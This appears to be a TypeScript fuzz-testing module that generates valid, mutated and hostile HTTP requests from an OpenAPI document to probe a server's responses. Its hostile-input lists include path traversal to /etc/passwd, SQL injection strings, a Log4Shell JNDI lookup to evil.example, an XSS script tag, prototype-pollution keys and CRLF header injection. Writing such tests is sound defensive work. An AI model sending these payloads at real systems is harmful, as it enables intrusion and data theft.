import {
  type Arbitrary,
  array,
  boolean,
  constant,
  constantFrom,
  dictionary,
  integer,
  jsonValue,
  oneof,
  option,
  record,
  string,
  tuple,
  uint8Array,
} from 'fast-check';
import { type Exchange } from './https-client.js';

/** The members of an OpenAPI 3.1 document that requests are made of. */
export interface OpenApiDocument {
  readonly paths: Readonly<Record<string, Readonly<Record<string, Operation>>>>;
  readonly components: { readonly schemas: Readonly<Record<string, Schema>> };
}

interface Operation {
  readonly parameters?: readonly { readonly name: string; readonly in: string; readonly schema?: Schema }[];
  readonly responses: Readonly<Record<string, unknown>>;
  readonly requestBody?: { readonly content: Readonly<Record<string, { readonly schema: Schema }>> };
}

interface Schema {
  readonly $ref?: string;
  readonly type?: string | readonly string[];
  readonly format?: string;
  readonly enum?: readonly unknown[];
  readonly example?: unknown;
  readonly items?: Schema;
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly required?: readonly string[];
  readonly additionalProperties?: Schema | boolean;
}

export interface GeneratedRequest {
  readonly method: string;
  readonly path: string;
  readonly exchange: Exchange;
  /** Whose access token is sent, if anybody's. */
  readonly caller: 'user' | 'administrator' | 'nobody' | 'forged';
  /** What the document says the answer can be; nothing where the request is none of the operation. */
  readonly statuses: ReadonlySet<number> | undefined;
}

const HOSTILE_TEXTS = [
  '',
  ' ',
  '\u0000',
  '..',
  '../../etc/passwd',
  '%',
  '%00',
  "' or 1=1 --",
  '"; drop table users; --',
  '${jndi:ldap://evil.example}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'a\r\nSet-Cookie: x=y',
  '\u202e\ufeff😀',
  '9'.repeat(400),
  'x'.repeat(600),
  '-1',
  '1e999',
  'NaN',
  '0x10',
  'null',
  '[]',
];

const HOSTILE_BODIES = [
  '',
  '{',
  'null',
  '[]',
  '{"a":1,"a":2}',
  '{"__proto__":{}}',
  `${'{"a":'.repeat(100)}1${'}'.repeat(100)}`,
  '['.repeat(40_000),
  '\ufeff{}',
  '{"a":"\\ud800"}',
  `{"a":"${'x'.repeat(70_000)}"}`,
];

const MEDIA_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/merge-patch+json',
  'text/plain',
  'application/x-www-form-urlencoded',
  'application/json; charset=latin1',
  'x',
];

const METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE', 'PROPFIND'];

const hostileText = oneof(constantFrom(...HOSTILE_TEXTS), string({ unit: 'binary', maxLength: 40 }));

const odds = <Value>(good: Arbitrary<Value>, bad: Arbitrary<Value>, weight: number) =>
  oneof({ arbitrary: good, weight }, { arbitrary: bad, weight: 1 });

/**
 * Requests for every operation of the document: as it describes them, with single parts changed, and hostile.
 *
 * @param known - values of path parameters that name something
 */
export function requestsFor(
  document: OpenApiDocument,
  known: Readonly<Record<string, readonly string[]>>,
): Arbitrary<GeneratedRequest> {
  const operations = Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, operation]) =>
      requestOf(document, path, method.toUpperCase(), operation, known),
    ),
  );
  return oneof(...operations);
}

function requestOf(
  document: OpenApiDocument,
  pattern: string,
  documentedMethod: string,
  { parameters = [], requestBody, responses }: Operation,
  known: Readonly<Record<string, readonly string[]>>,
): Arbitrary<GeneratedRequest> {
  const valueOf = ({ name, schema = {} }: { readonly name: string; readonly schema?: Schema }) => {
    const good = known[name] ? constantFrom(...known[name]) : valid(document, schema).map(String);
    return odds(good, hostileText, 4);
  };
  const named = (place: string) => {
    const some = parameters.filter((parameter) => parameter.in === place);
    return Object.fromEntries(some.map((parameter) => [parameter.name, valueOf(parameter)]));
  };
  const [mediaType = 'application/json', { schema = {} } = {}] =
    Object.entries(requestBody?.content ?? {})[0] ?? [];
  const body = requestBody
    ? bodyOf(document, schema)
    : odds(constant<Raw>(undefined), bodyOf(document, {}), 6);
  const statuses = new Set(Object.keys(responses).map(Number));
  const itsPaths = new RegExp(`^${pattern.replaceAll('.', '\\.').replaceAll(/\{\w+\}/g, '[^/?]+')}(\\?|$)`);
  return record({
    method: odds(constant(documentedMethod), constantFrom(...METHODS), 12),
    path: record(named('path')),
    query: odds(
      record(named('query'), { requiredKeys: [] }),
      dictionary(hostileText, hostileText, { maxKeys: 3 }),
      5,
    ),
    headers: record(named('header'), { requiredKeys: [] }),
    type: odds(constant(mediaType), constantFrom(...MEDIA_TYPES), 8),
    body,
    caller: oneof(
      { arbitrary: constant('user' as const), weight: 6 },
      { arbitrary: constantFrom('administrator' as const, 'nobody' as const, 'forged' as const), weight: 2 },
    ),
  }).map(({ method, path: values, query, headers, type, body: raw, caller }) => {
    const path = pathOf(pattern, values, query);
    return {
      method,
      path,
      caller,
      statuses: method === documentedMethod && itsPaths.test(path) ? statuses : undefined,
      exchange: {
        headers: { ...sendable(headers), ...(raw === undefined ? {} : { 'content-type': type }) },
        ...(raw === undefined ? {} : { raw }),
      },
    };
  });
}

type Raw = string | Uint8Array | undefined;

function bodyOf(document: OpenApiDocument, schema: Schema): Arbitrary<Raw> {
  const good = valid(document, schema);
  return oneof(
    { arbitrary: good.map((value): Raw => JSON.stringify(value)), weight: 6 },
    { arbitrary: tuple(good, hostileText, jsonValue({ maxDepth: 3 })).map(withOneMemberChanged), weight: 4 },
    { arbitrary: jsonValue({ maxDepth: 4 }).map((value): Raw => JSON.stringify(value)), weight: 1 },
    { arbitrary: constantFrom<Raw[]>(...HOSTILE_BODIES), weight: 1 },
    { arbitrary: uint8Array({ maxLength: 50 }), weight: 1 },
  );
}

function withOneMemberChanged([value, name, other]: [unknown, string, unknown]): Raw {
  if (typeof value !== 'object' || value === null) return JSON.stringify(other);
  const keys = Object.keys(value);
  const changed = keys[name.length % (keys.length + 1)] ?? name;
  return JSON.stringify({ ...value, [changed]: other });
}

/** A value as the schema describes it; bounds that it leaves out are the server's to know. */
function valid(document: OpenApiDocument, schema: Schema): Arbitrary<unknown> {
  if (schema.$ref !== undefined) {
    const name = schema.$ref.split('/').at(-1) ?? '';
    return valid(document, document.components.schemas[name] ?? {});
  }
  if (schema.enum) return constantFrom(...schema.enum);
  if (schema.example !== undefined) return constant(schema.example);
  const type = typeof schema.type === 'string' ? schema.type : schema.type?.[0];
  if (type === 'boolean') return boolean();
  if (type === 'integer' || type === 'number') return integer({ min: 1, max: 100 });
  if (type === 'array') return array(valid(document, schema.items ?? {}), { maxLength: 3 });
  if (type === 'object' || schema.properties) return validObject(document, schema);
  return validText(schema.format);
}

function validObject(document: OpenApiDocument, schema: Schema): Arbitrary<unknown> {
  const { properties, required = [], additionalProperties } = schema;
  if (properties === undefined) {
    const values = typeof additionalProperties === 'object' ? additionalProperties : { type: 'string' };
    return dictionary(string({ minLength: 1, maxLength: 10 }), valid(document, values), { maxKeys: 3 });
  }
  const members = Object.entries(properties).map(([name, member]) => [name, valid(document, member)]);
  const all = Object.fromEntries(members) as Record<string, Arbitrary<unknown>>;
  return record(all, { requiredKeys: required.filter((name) => name in all) });
}

function validText(format: string | undefined): Arbitrary<unknown> {
  if (format === 'uuid') return constant('01900000-0000-7000-8000-000000000000');
  if (format === 'email') return integer({ min: 0, max: 1e6 }).map((number) => `${number}@example.com`);
  if (format === 'date-time') return constantFrom('2040-01-01T00:00:00.000Z', '2020-01-01T00:00:00.000Z');
  return option(constant('maple otter drifts at noon'), { nil: 'some text' });
}

function pathOf(pattern: string, path: object, query: object): string {
  const values = new Map(Object.entries(path) as [string, string][]);
  const filled = pattern.replaceAll(/\{(\w+)\}/g, (_match, name: string) => escape(values.get(name) ?? ''));
  const pairs = Object.entries(query).map(([name, value]) => `${escape(name)}=${escape(String(value))}`);
  return pairs.length === 0 ? filled : `${filled}?${pairs.join('&')}`;
}

/** What a URL may hold stays as it is, so that dots, percent signs and slashes reach the server bare at times. */
function escape(text: string): string {
  return text.length % 2 === 0 && /^[\w%./~-]*$/.test(text) ? text : encodeURIComponent(text.toWellFormed());
}

/** Fields that Node lets a client send. */
function sendable(headers: object): Record<string, string> {
  const entries = Object.entries(headers).map(([name, value]) => [name, String(value)] as const);
  return Object.fromEntries(entries.filter(([, value]) => /^[\x20-\x7e]*$/.test(value)));
}
